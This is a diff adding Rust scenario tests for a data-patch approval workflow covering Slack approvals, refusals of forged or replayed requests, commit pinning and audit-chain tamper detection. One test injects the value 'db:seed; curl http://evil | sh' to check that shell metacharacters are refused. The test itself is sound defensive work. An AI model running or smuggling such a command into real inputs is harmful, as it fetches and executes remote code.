@@ -1,0 +1,857 @@
+//! Scenario tests of data patches (issue 5) on the local replica: real executions of
+//! `statemachines/data-patch.asl.json`, approvals through signed Slack interactivity requests
+//! (the fake Slack signs them and posts to the real `approval` function URL) and through the
+//! `batchless` CLI acting as different IAM users of the replica, real CodeBuild runs of the
+//! fake app at pinned commits, the audit trail in DynamoDB + S3 anchors. Run one at a time
+//! (`--test-threads=1`): fault injection is per stack.
+
+use std::process::Command;
+use std::time::Duration;
+
+use anyhow::{Context, Result};
+use batchless_core::audit::{self, Trail};
+use batchless_scenarios::*;
+use serde_json::{json, Value};
+
+const TIMEOUT: Duration = Duration::from_secs(150);
+const PATCHES_CHANNEL: &str = "C0PATCHES";
+const ALERTS_CHANNEL: &str = "C0ALERTS";
+const BOB: &str = "arn:aws:iam::123456789012:user/bob";
+const ALICE_SLACK: &str = "U0ALICE01";
+const BOB_SLACK: &str = "U0BOB0001";
+const CAROL_SLACK: &str = "U0CAROL01";
+const DAVE_SLACK: &str = "U0DAVE001";
+
+struct P {
+    stack: Stack,
+    sm: String,
+    table: String,
+    audit_table: String,
+    bucket: String,
+    project: String,
+}
+
+async fn setup() -> Result<P> {
+    let stack = Stack::from_env().await?;
+    stack.clear_faults().await?;
+    Ok(P {
+        sm: stack.state_machine("DataPatchStateMachine")?,
+        table: stack.table("PatchesTable")?,
+        audit_table: stack.table("AuditTable")?,
+        bucket: stack.bucket("LogsBucket")?,
+        project: stack.physical_id("PatchProject")?,
+        stack,
+    })
+}
+
+fn request(commit: &str, extra: Value) -> Value {
+    let mut r = json!({
+        "ticket": "OPS-7",
+        "ref": "main",
+        "commit": commit,
+        "kind": "rake",
+        "task": "data:backfill_totals",
+        "args": ["2026-11-01", "it's ok"],
+        "reason": "totals were wrong after the import",
+        "requestedBy": BOB,
+    });
+    if let (Some(r), Some(extra)) = (r.as_object_mut(), extra.as_object()) {
+        for (k, v) in extra {
+            r.insert(k.clone(), v.clone());
+        }
+    }
+    r
+}
+
+impl P {
+    async fn submit(&self, input: &Value) -> Result<(String, String)> {
+        let name = unique_name("patch");
+        let arn = self.stack.start(&self.sm, &name, input).await?;
+        Ok((name, arn))
+    }
+
+    async fn record(&self, id: &str) -> Result<Value> {
+        self.stack
+            .get_item(&self.table, "patchId", id)
+            .await?
+            .with_context(|| format!("no patch record {id}"))
+    }
+
+    /// Wait until the approval request is posted (the record has its Slack message and token).
+    async fn pending(&self, id: &str) -> Result<Value> {
+        eventually("the approval request", TIMEOUT, || async {
+            let r = self.stack.get_item(&self.table, "patchId", id).await?;
+            Ok(r.filter(|r| r.get("approvalMessage").is_some() && r.get("taskToken").is_some()))
+        })
+        .await
+    }
+
+    /// A Slack button click, signed by the fake Slack (or with `extra` overriding the signing).
+    async fn click(
+        &self,
+        id: &str,
+        user: &str,
+        action: &str,
+        extra: Value,
+    ) -> Result<(u16, Value)> {
+        let payload = json!({
+            "type": "block_actions",
+            "user": {"id": user},
+            "actions": [{"action_id": action, "value": id, "type": "button"}],
+            "container": {"type": "message"},
+        });
+        let body = format!("payload={}", urlencode(&payload.to_string()));
+        let mut spec = json!({
+            "url": self.stack.info["function_urls"]["ApprovalFunction"],
+            "body": body,
+            "content_type": "application/x-www-form-urlencoded",
+        });
+        if let (Some(s), Some(e)) = (spec.as_object_mut(), extra.as_object()) {
+            for (k, v) in e {
+                s.insert(k.clone(), v.clone());
+            }
+        }
+        let resp: Value = self
+            .stack
+            .http
+            .post(format!(
+                "{}/_fake/send",
+                self.stack.info["slack_url"].as_str().unwrap_or_default()
+            ))
+            .json(&spec)
+            .send()
+            .await?
+            .json()
+            .await?;
+        let status = resp["status"]
+            .as_u64()
+            .context("no status from the fake Slack")? as u16;
+        let body =
+            serde_json::from_str(resp["body"].as_str().unwrap_or("null")).unwrap_or(Value::Null);
+        Ok((status, body))
+    }
+
+    async fn builds_of(&self, id: &str) -> Result<Vec<aws_sdk_codebuild::types::Build>> {
+        Ok(self
+            .stack
+            .builds(&self.project)
+            .await?
+            .into_iter()
+            .filter(|b| {
+                b.environment().is_some_and(|e| {
+                    e.environment_variables()
+                        .iter()
+                        .any(|v| v.name() == "BATCHLESS_PATCH_ID" && v.value() == id)
+                })
+            })
+            .collect())
+    }
+
+    fn trail(&self, chain: &'static str) -> Trail<'_> {
+        Trail {
+            db: &self.stack.db,
+            s3: &self.stack.s3,
+            table: &self.audit_table,
+            bucket: &self.bucket,
+            chain,
+        }
+    }
+
+    async fn audit_events(&self, id: &str) -> Result<Vec<(String, Value)>> {
+        let (records, _) = audit::read_chain(&self.trail(audit::PATCH_CHAIN)).await?;
+        Ok(records
+            .into_iter()
+            .filter(|r| r.patch_id == id)
+            .map(|r| (r.event, r.data))
+            .collect())
+    }
+
+    /// The CLI against this stack, acting as `as_user` (an IAM user of the replica) or the
+    /// replica's default identity.
+    fn cli(&self, as_user: Option<&str>, args: &[&str]) -> Result<(bool, String)> {
+        let mut cmd = Command::new(repo_root().join("target/debug/batchless"));
+        cmd.arg("--stack").arg(&self.stack.name).args(args);
+        cmd.env_remove("BATCHLESS_LOCAL_ACCESS_KEY_ID");
+        if let Some(u) = as_user {
+            cmd.env("BATCHLESS_LOCAL_ACCESS_KEY_ID", self.access_key(u)?);
+        }
+        let out = cmd.output().context("running batchless")?;
+        Ok((
+            out.status.success(),
+            format!(
+                "{}{}",
+                String::from_utf8_lossy(&out.stdout),
+                String::from_utf8_lossy(&out.stderr)
+            ),
+        ))
+    }
+
+    /// An access key of IAM user `name` in the replica (created once per stack).
+    fn access_key(&self, name: &str) -> Result<String> {
+        let dir = repo_root().join(".local").join(&self.stack.name);
+        let file = dir.join(format!("key-{name}"));
+        if let Ok(k) = std::fs::read_to_string(&file) {
+            return Ok(k);
+        }
+        let iam = |params: &[(&str, &str)]| -> Result<String> {
+            let out = Command::new("curl")
+                .args(["-s", "-X", "POST", &format!("{}/", self.stack.endpoint())])
+                .args(["-H", "Authorization: AWS4-HMAC-SHA256 Credential=testing/20261128/us-east-1/iam/aws4_request, SignedHeaders=host, Signature=0"])
+                .args(params.iter().flat_map(|(k, v)| ["--data-urlencode".to_string(), format!("{k}={v}")]))
+                .output()?;
+            Ok(String::from_utf8_lossy(&out.stdout).to_string())
+        };
+        iam(&[
+            ("Action", "CreateUser"),
+            ("UserName", name),
+            ("Version", "2010-05-08"),
+        ])?;
+        let xml = iam(&[
+            ("Action", "CreateAccessKey"),
+            ("UserName", name),
+            ("Version", "2010-05-08"),
+        ])?;
+        let key = xml
+            .split("<AccessKeyId>")
+            .nth(1)
+            .and_then(|s| s.split("</AccessKeyId>").next())
+            .with_context(|| format!("no access key in {xml}"))?
+            .to_string();
+        std::fs::write(&file, &key)?;
+        Ok(key)
+    }
+}
+
+fn urlencode(s: &str) -> String {
+    s.bytes()
+        .map(|b| match b {
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
+                (b as char).to_string()
+            }
+            _ => format!("%{b:02X}"),
+        })
+        .collect()
+}
+
+#[tokio::test]
+async fn approved_patch_runs_the_approved_sha_logs_to_s3_and_is_compliant() -> Result<()> {
+    let p = setup().await?;
+    let commit = p.stack.app_head()?;
+    let (id, arn) = p.submit(&request(&commit, json!({}))).await?;
+    let rec = p.pending(&id).await?;
+    assert_eq!(rec["status"], "PENDING_APPROVAL");
+    // The request in Slack names everything an approver needs.
+    let ts = rec["approvalMessage"]["ts"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string();
+    let posted = p.stack.slack_messages(PATCHES_CHANNEL).await?;
+    let msg = posted
+        .iter()
+        .find(|m| m["ts"] == ts.as_str())
+        .context("approval request posted")?;
+    let blocks = msg.to_string();
+    for needle in [
+        "OPS-7",
+        "Bob Example",
+        &commit[..12],
+        "bin/rake data:backfill_totals 2026-11-01",
+        "patch_approve",
+    ] {
+        assert!(blocks.contains(needle), "{needle} not in {blocks}");
+    }
+    let (status, body) = p
+        .click(&id, ALICE_SLACK, "patch_approve", json!({}))
+        .await?;
+    assert_eq!(status, 200, "{body}");
+    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
+    assert_eq!(ended.status, "SUCCEEDED", "{ended:?}");
+    let out = ended.output.context("output")?;
+    assert_eq!(out["verdict"], "COMPLIANT");
+    assert_eq!(out["approvers"], json!(["alice"]));
+    // The approved SHA ran, with the approved (quoted) command.
+    let builds = p.builds_of(&id).await?;
+    assert_eq!(builds.len(), 1);
+    assert_eq!(builds[0].resolved_source_version(), Some(commit.as_str()));
+    assert_eq!(builds[0].source_version(), Some(commit.as_str()));
+    // The work log is in S3 with its SHA-256.
+    let log_uri = out["logUri"].as_str().context("logUri")?;
+    let log = p.stack.object(log_uri).await?;
+    let text = String::from_utf8_lossy(&log);
+    assert!(
+        text.contains("Running task: data:backfill_totals"),
+        "{text}"
+    );
+    assert!(text.contains("Arguments: 2026-11-01 it's ok"), "{text}");
+    assert_eq!(out["logSha256"].as_str(), Some(sha256_hex(&log).as_str()));
+    let sidecar = p.stack.object(&format!("{log_uri}.sha256")).await?;
+    assert!(String::from_utf8_lossy(&sidecar).starts_with(&sha256_hex(&log)));
+    // The audit trail tells the whole story, and the chain verifies.
+    let events: Vec<String> = p
+        .audit_events(&id)
+        .await?
+        .into_iter()
+        .map(|(e, _)| e)
+        .collect();
+    assert_eq!(
+        events,
+        [
+            "REQUESTED",
+            "DECISION",
+            "APPROVED",
+            "BUILD_STARTED",
+            "VERDICT",
+            "FINISHED"
+        ]
+    );
+    let v = audit::verify_trail(&p.trail(audit::PATCH_CHAIN)).await?;
+    assert!(v.ok(), "{:?}", v.problems);
+    // The result is in the request's thread.
+    let thread = p.stack.slack_messages(PATCHES_CHANNEL).await?;
+    assert!(thread.iter().any(|m| m["thread_ts"] == ts.as_str()
+        && m["text"]
+            .as_str()
+            .is_some_and(|t| t.contains("SUCCEEDED") && t.contains(log_uri))));
+    Ok(())
+}
+
+#[tokio::test]
+async fn rejected_patch_runs_no_build() -> Result<()> {
+    let p = setup().await?;
+    let (id, arn) = p.submit(&request(&p.stack.app_head()?, json!({}))).await?;
+    p.pending(&id).await?;
+    let (status, body) = p.click(&id, CAROL_SLACK, "patch_reject", json!({})).await?;
+    assert_eq!(status, 200, "{body}");
+    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
+    assert_eq!(ended.error.as_deref(), Some("PatchRejected"), "{ended:?}");
+    assert!(ended
+        .cause
+        .unwrap_or_default()
+        .contains("rejected by carol"));
+    assert!(p.builds_of(&id).await?.is_empty());
+    assert_eq!(p.record(&id).await?["status"], "REJECTED");
+    Ok(())
+}
+
+#[tokio::test]
+async fn unanswered_patch_expires_without_a_build() -> Result<()> {
+    let p = setup().await?;
+    // 60 s at the test time scale (60x) is one second.
+    let (id, arn) = p
+        .submit(&request(
+            &p.stack.app_head()?,
+            json!({"approvalTimeoutSeconds": 60}),
+        ))
+        .await?;
+    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
+    assert_eq!(ended.error.as_deref(), Some("ApprovalExpired"), "{ended:?}");
+    assert!(p.builds_of(&id).await?.is_empty());
+    assert_eq!(p.record(&id).await?["status"], "EXPIRED");
+    let events: Vec<String> = p
+        .audit_events(&id)
+        .await?
+        .into_iter()
+        .map(|(e, _)| e)
+        .collect();
+    assert_eq!(events.last().map(String::as_str), Some("FINISHED"));
+    Ok(())
+}
+
+#[tokio::test]
+async fn self_approval_and_non_approvers_are_refused_and_two_required_need_two() -> Result<()> {
+    let p = setup().await?;
+    let (id, arn) = p
+        .submit(&request(
+            &p.stack.app_head()?,
+            json!({"requiredApprovals": 2}),
+        ))
+        .await?;
+    p.pending(&id).await?;
+    let (_, body) = p.click(&id, BOB_SLACK, "patch_approve", json!({})).await?;
+    assert_eq!(
+        body["outcome"]["refusal"]["refusal"], "self_approval",
+        "{body}"
+    );
+    let (_, body) = p.click(&id, DAVE_SLACK, "patch_approve", json!({})).await?;
+    assert_eq!(
+        body["outcome"]["refusal"]["refusal"], "not_approver",
+        "{body}"
+    );
+    let rec = p.record(&id).await?;
+    assert_eq!(rec["status"], "PENDING_APPROVAL");
+    assert_eq!(rec["decisions"], json!({}));
+    // One of two.
+    let (_, body) = p
+        .click(&id, ALICE_SLACK, "patch_approve", json!({}))
+        .await?;
+    assert_eq!(body["outcome"]["status"], "PENDING_APPROVAL", "{body}");
+    assert_eq!(body["outcome"]["approvals"], 1);
+    // A second click by the same approver (a double click) counts once.
+    let (_, body) = p
+        .click(&id, ALICE_SLACK, "patch_approve", json!({}))
+        .await?;
+    assert_eq!(body["outcome"]["outcome"], "duplicate", "{body}");
+    assert_eq!(p.record(&id).await?["status"], "PENDING_APPROVAL");
+    assert!(p.builds_of(&id).await?.is_empty());
+    // The second distinct approver completes it.
+    let (_, body) = p
+        .click(&id, CAROL_SLACK, "patch_approve", json!({}))
+        .await?;
+    assert_eq!(body["outcome"]["status"], "APPROVED", "{body}");
+    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
+    assert_eq!(ended.status, "SUCCEEDED", "{ended:?}");
+    let refused = p
+        .audit_events(&id)
+        .await?
+        .iter()
+        .filter(|(e, _)| e == "DECISION_REFUSED")
+        .count();
+    assert_eq!(refused, 2);
+    Ok(())
+}
+
+#[tokio::test]
+async fn forged_stale_and_replayed_slack_requests_get_401_and_record_nothing() -> Result<()> {
+    let p = setup().await?;
+    let (id, arn) = p.submit(&request(&p.stack.app_head()?, json!({}))).await?;
+    p.pending(&id).await?;
+    let (status, _) = p
+        .click(
+            &id,
+            ALICE_SLACK,
+            "patch_approve",
+            json!({"signing_secret": "forged"}),
+        )
+        .await?;
+    assert_eq!(status, 401);
+    let stale = (chrono::Utc::now().timestamp() - 400).to_string();
+    let (status, _) = p
+        .click(
+            &id,
+            ALICE_SLACK,
+            "patch_approve",
+            json!({"timestamp": stale}),
+        )
+        .await?;
+    assert_eq!(status, 401);
+    // A valid request replayed: the first is refused (bob is the requester), the copy is a replay.
+    let ts = chrono::Utc::now().timestamp().to_string();
+    let (first, _) = p
+        .click(&id, BOB_SLACK, "patch_approve", json!({"timestamp": ts}))
+        .await?;
+    assert_eq!(first, 200);
+    let (replay, _) = p
+        .click(&id, BOB_SLACK, "patch_approve", json!({"timestamp": ts}))
+        .await?;
+    assert_eq!(replay, 401);
+    let rec = p.record(&id).await?;
+    assert_eq!(rec["status"], "PENDING_APPROVAL");
+    assert_eq!(rec["decisions"], json!({}));
+    // Cancelled by the requester through the CLI: nothing runs.
+    let (ok, out) = p.cli(Some("bob"), &["patch", "cancel", &id])?;
+    assert!(ok, "{out}");
+    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
+    assert_eq!(ended.error.as_deref(), Some("PatchCancelled"), "{ended:?}");
+    assert!(p.builds_of(&id).await?.is_empty());
+    Ok(())
+}
+
+#[tokio::test]
+async fn a_forged_send_task_success_ends_not_approved_without_a_build() -> Result<()> {
+    let p = setup().await?;
+    let (id, arn) = p.submit(&request(&p.stack.app_head()?, json!({}))).await?;
+    let rec = p.pending(&id).await?;
+    let token = rec["taskToken"].as_str().context("token")?;
+    p.stack
+        .sfn
+        .send_task_success()
+        .task_token(token)
+        .output(json!({"decision": "approved", "approvers": ["alice", "carol"]}).to_string())
+        .send()
+        .await?;
+    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
+    assert_eq!(ended.error.as_deref(), Some("NotApproved"), "{ended:?}");
+    assert!(ended
+        .cause
+        .unwrap_or_default()
+        .contains("0 of 1 valid approvals"));
+    assert!(p.builds_of(&id).await?.is_empty());
+    assert_eq!(p.record(&id).await?["status"], "NOT_APPROVED");
+    Ok(())
+}
+
+#[tokio::test]
+async fn the_approved_sha_runs_after_the_branch_moved_and_the_cli_decides() -> Result<()> {
+    let p = setup().await?;
+    let repo = p.stack.app_repo();
+    let branch = unique_name("fix");
+    git(&repo, &["checkout", "-q", "-b", &branch])?;
+    std::fs::write(repo.join("script/fix_totals.rb"), "puts 'version one'\n")?;
+    git(&repo, &["add", "script/fix_totals.rb"])?;
+    git(
+        &repo,
+        &[
+            "-c",
+            "user.name=t",
+            "-c",
+            "user.email=t@e",
+            "commit",
+            "-q",
+            "-m",
+            "fix one",
+        ],
+    )?;
+    let approved_sha = git(&repo, &["rev-parse", "HEAD"])?;
+    git(&repo, &["checkout", "-q", "-"])?;
+    let (ok, out) = p.cli(
+        Some("bob"),
+        &[
+            "patch",
+            "submit",
+            "--ticket",
+            "OPS-8",
+            "--ref",
+            &branch,
+            "--kind",
+            "runner",
+            "--script",
+            "script/fix_totals.rb",
+            "--arg",
+            "--dry-run=false",
+            "--reason",
+            "one-off fix",
+        ],
+    )?;
+    assert!(ok, "{out}");
+    let id = out
+        .split_whitespace()
+        .nth(1)
+        .context("patch id")?
+        .to_string();
+    assert!(out.contains(&approved_sha), "{out}");
+    p.pending(&id).await?;
+    // The branch moves on after the request.
+    git(&repo, &["checkout", "-q", &branch])?;
+    std::fs::write(
+        repo.join("script/fix_totals.rb"),
+        "puts 'version two: DROP EVERYTHING'\n",
+    )?;
+    git(
+        &repo,
+        &[
+            "-c",
+            "user.name=t",
+            "-c",
+            "user.email=t@e",
+            "commit",
+            "-q",
+            "-am",
+            "fix two",
+        ],
+    )?;
+    git(&repo, &["checkout", "-q", "-"])?;
+    // dave may not approve; alice may.
+    let (ok, out) = p.cli(Some("dave"), &["patch", "approve", &id])?;
+    assert!(
+        !ok && out.contains("does not have the approver role"),
+        "{out}"
+    );
+    let (ok, out) = p.cli(Some("alice"), &["patch", "approve", &id])?;
+    assert!(ok && out.contains("approved"), "{out}");
+    let arn = p.record(&id).await?["request"]["executionArn"]
+        .as_str()
+        .context("arn")?
+        .to_string();
+    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
+    assert_eq!(ended.status, "SUCCEEDED", "{ended:?}");
+    let builds = p.builds_of(&id).await?;
+    assert_eq!(
+        builds[0].resolved_source_version(),
+        Some(approved_sha.as_str())
+    );
+    let log = p
+        .stack
+        .object(
+            ended
+                .output
+                .as_ref()
+                .and_then(|o| o["logUri"].as_str())
+                .context("log")?,
+        )
+        .await?;
+    let text = String::from_utf8_lossy(&log);
+    assert!(
+        text.contains("version one") && !text.contains("version two"),
+        "{text}"
+    );
+    // The CloudTrail record of the submit names bob, as the patch does: no mismatch.
+    let sweep = p
+        .stack
+        .invoke(
+            "AuditCheckFunction",
+            &json!({"mode": "sweep", "windowHours": 1}),
+        )
+        .await?;
+    assert!(
+        !sweep["requesterMismatches"].to_string().contains(&id),
+        "{sweep}"
+    );
+    Ok(())
+}
+
+#[tokio::test]
+async fn the_sweep_names_a_build_started_outside_the_workflow_and_a_false_requester() -> Result<()>
+{
+    let p = setup().await?;
+    let outside = p
+        .stack
+        .codebuild
+        .start_build()
+        .project_name(&p.project)
+        .source_version(p.stack.app_head()?)
+        .send()
+        .await?;
+    let build_id = outside
+        .build_value()
+        .and_then(|b| b.id())
+        .context("id")?
+        .to_string();
+    // Started by the replica's default identity (local-operator) but naming bob.
+    let (id, arn) = p
+        .submit(&request(&p.stack.app_head()?, json!({"ticket": "OPS-9"})))
+        .await?;
+    p.pending(&id).await?;
+    let sweep = p
+        .stack
+        .invoke(
+            "AuditCheckFunction",
+            &json!({"mode": "sweep", "windowHours": 1}),
+        )
+        .await?;
+    let unapproved = sweep["unapproved"].to_string();
+    assert!(
+        unapproved.contains(&build_id) && unapproved.contains("without an approved request"),
+        "{sweep}"
+    );
+    let mismatches = sweep["requesterMismatches"].to_string();
+    assert!(
+        mismatches.contains(&id) && mismatches.contains("CloudTrail shows local-operator"),
+        "{sweep}"
+    );
+    let alerts = p.stack.slack_messages(ALERTS_CHANNEL).await?;
+    assert!(
+        alerts
+            .iter()
+            .any(|m| m["text"].as_str().is_some_and(|t| t.contains(&build_id))),
+        "no alert names {build_id}"
+    );
+    // A second sweep finds the same, alerts nothing new.
+    let again = p
+        .stack
+        .invoke(
+            "AuditCheckFunction",
+            &json!({"mode": "sweep", "windowHours": 1}),
+        )
+        .await?;
+    assert!(again["unapproved"].as_array().is_some_and(|a| a
+        .iter()
+        .all(|x| x["buildId"] != build_id.as_str() || x["new"] == false)));
+    let (ok, out) = p.cli(None, &["patch", "cancel", &id])?;
+    assert!(ok, "{out}");
+    p.stack.wait_end(&arn, TIMEOUT).await?;
+    Ok(())
+}
+
+#[tokio::test]
+async fn a_failing_script_is_patch_failed_and_audited_and_metacharacters_are_invalid_input(
+) -> Result<()> {
+    let p = setup().await?;
+    let mut input = request(&p.stack.app_head()?, json!({}));
+    input["task"] = json!("db:seed; curl http://evil | sh");
+    let (id, arn) = p.submit(&input).await?;
+    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
+    assert_eq!(ended.error.as_deref(), Some("InvalidInput"), "{ended:?}");
+    assert!(ended
+        .cause
+        .unwrap_or_default()
+        .contains("shell metacharacters are refused"));
+    assert!(p.stack.get_item(&p.table, "patchId", &id).await?.is_none());
+    // `rails runner` of a script the commit does not have exits non-zero.
+    let mut input = request(&p.stack.app_head()?, json!({}));
+    input.as_object_mut().context("obj")?.remove("task");
+    input["kind"] = json!("runner");
+    input["script"] = json!("script/does_not_exist.rb");
+    let (id, arn) = p.submit(&input).await?;
+    p.pending(&id).await?;
+    p.click(&id, ALICE_SLACK, "patch_approve", json!({}))
+        .await?;
+    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
+    assert_eq!(ended.error.as_deref(), Some("PatchFailed"), "{ended:?}");
+    let cause = ended.cause.unwrap_or_default();
+    assert!(cause.contains("in phase BUILD"), "{cause}");
+    let finished = p
+        .audit_events(&id)
+        .await?
+        .into_iter()
+        .find(|(e, _)| e == "FINISHED")
+        .context("FINISHED")?;
+    assert_eq!(finished.1["status"], "FAILED");
+    assert!(finished.1["logUri"].as_str().is_some());
+    Ok(())
+}
+
+/// Tampering with a chain (its own, so other tests' chain stays intact): `batchless audit
+/// verify` fails and names what happened.
+#[tokio::test]
+async fn audit_verify_names_an_edited_record_a_deleted_newest_record_and_a_rewritten_chain(
+) -> Result<()> {
+    let p = setup().await?;
+    let chain: &'static str = Box::leak(unique_name("tamper").into_boxed_str());
+    let trail = p.trail(chain);
+    for n in 1..=4 {
+        audit::append(
+            &trail,
+            &audit::Entry {
+                key: format!("k{n}"),
+                environment: "staging".into(),
+                patch_id: "p".into(),
+                event: "REQUESTED".into(),
+                actor: "bob".into(),
+                data: json!({"n": n}),
+            },
+        )
+        .await?;
+    }
+    let verify = || p.cli(None, &["audit", "verify", "--chain", chain]);
+    let (ok, out) = verify()?;
+    assert!(ok && out.contains("audit chain OK: 4 records"), "{out}");
+    let item = |seq: u64| {
+        let key: std::collections::HashMap<String, aws_sdk_dynamodb::types::AttributeValue> = [
+            (
+                "chain".to_string(),
+                aws_sdk_dynamodb::types::AttributeValue::S(chain.to_string()),
+            ),
+            (
+                "seq".to_string(),
+                aws_sdk_dynamodb::types::AttributeValue::N(seq.to_string()),
+            ),
+        ]
+        .into();
+        key
+    };
+    // Edit record 2.
+    p.stack
+        .db
+        .update_item()
+        .table_name(&p.audit_table)
+        .set_key(Some(item(2)))
+        .update_expression("SET actor = :m")
+        .expression_attribute_values(
+            ":m",
+            aws_sdk_dynamodb::types::AttributeValue::S("mallory".into()),
+        )
+        .send()
+        .await?;
+    let (ok, out) = verify()?;
+    assert!(!ok && out.contains("record 2 was modified"), "{out}");
+    p.stack
+        .db
+        .update_item()
+        .table_name(&p.audit_table)
+        .set_key(Some(item(2)))
+        .update_expression("SET actor = :m")
+        .expression_attribute_values(
+            ":m",
+            aws_sdk_dynamodb::types::AttributeValue::S("bob".into()),
+        )
+        .send()
+        .await?;
+    assert!(verify()?.0, "restored");
+    // Delete the newest record and move the head back to 3: the S3 anchor remembers 4.
+    let (records, _) = audit::read_chain(&trail).await?;
+    p.stack
+        .db
+        .delete_item()
+        .table_name(&p.audit_table)
+        .set_key(Some(item(4)))
+        .send()
+        .await?;
+    let mut head = item(0);
+    head.insert(
+        "chain".into(),
+        aws_sdk_dynamodb::types::AttributeValue::S(format!("head#{chain}")),
+    );
+    head.insert(
+        "headSeq".into(),
+        aws_sdk_dynamodb::types::AttributeValue::N("3".into()),
+    );
+    head.insert(
+        "headHash".into(),
+        aws_sdk_dynamodb::types::AttributeValue::S(records[2].hash.clone()),
+    );
+    p.stack
+        .db
+        .put_item()
+        .table_name(&p.audit_table)
+        .set_item(Some(head))
+        .send()
+        .await?;
+    let (ok, out) = verify()?;
+    assert!(
+        !ok && out.contains("newest record(s) 4..=4 were deleted"),
+        "{out}"
+    );
+    // Rewrite the whole chain with recomputed hashes (an edit to record 1, consistent links).
+    let mut prev = audit::GENESIS_HASH.to_string();
+    for mut r in records.into_iter().take(3) {
+        if r.seq == 1 {
+            r.actor = "mallory".into();
+        }
+        r.prev_hash = prev.clone();
+        r.hash = audit::record_hash(&r);
+        prev = r.hash.clone();
+        p.stack
+            .db
+            .put_item()
+            .table_name(&p.audit_table)
+            .set_item(Some(batchless_core::dynamo::to_item(&r)))
+            .send()
+            .await?;
+    }
+    let (ok, out) = verify()?;
+    assert!(!ok && out.contains("record 1 was rewritten"), "{out}");
+    Ok(())
+}
+
+#[tokio::test]
+async fn a_start_build_error_is_recorded_and_the_lost_event_is_caught_by_the_poll() -> Result<()> {
+    let p = setup().await?;
+    // StartBuild refused (not retried) → Errored, recorded ERROR.
+    p.stack.fault(json!({"service": "codebuild", "operation": "StartBuild", "error": "InvalidInputException", "count": 1})).await?;
+    let (id, arn) = p.submit(&request(&p.stack.app_head()?, json!({}))).await?;
+    p.pending(&id).await?;
+    p.click(&id, ALICE_SLACK, "patch_approve", json!({}))
+        .await?;
+    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
+    assert_eq!(ended.error.as_deref(), Some("AwsServiceError"), "{ended:?}");
+    assert_eq!(p.record(&id).await?["status"], "ERROR");
+    p.stack.clear_faults().await?;
+    // The build's state-change event is lost: the safety-net poll notices the end.
+    p.stack
+        .fault(json!({"drop_events": {"source": "aws.codebuild", "detail_type": "CodeBuild Build State Change",
+                                      "detail": {"project-name": p.project}, "count": 1}}))
+        .await?;
+    let (id, arn) = p.submit(&request(&p.stack.app_head()?, json!({}))).await?;
+    p.pending(&id).await?;
+    p.click(&id, ALICE_SLACK, "patch_approve", json!({}))
+        .await?;
+    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
+    assert_eq!(ended.status, "SUCCEEDED", "{ended:?}");
+    assert!(p
+        .stack
+        .states_entered(&arn)
+        .await?
+        .contains(&"PollBuild".to_string()));
+    p.stack.clear_faults().await?;
+    Ok(())
+}
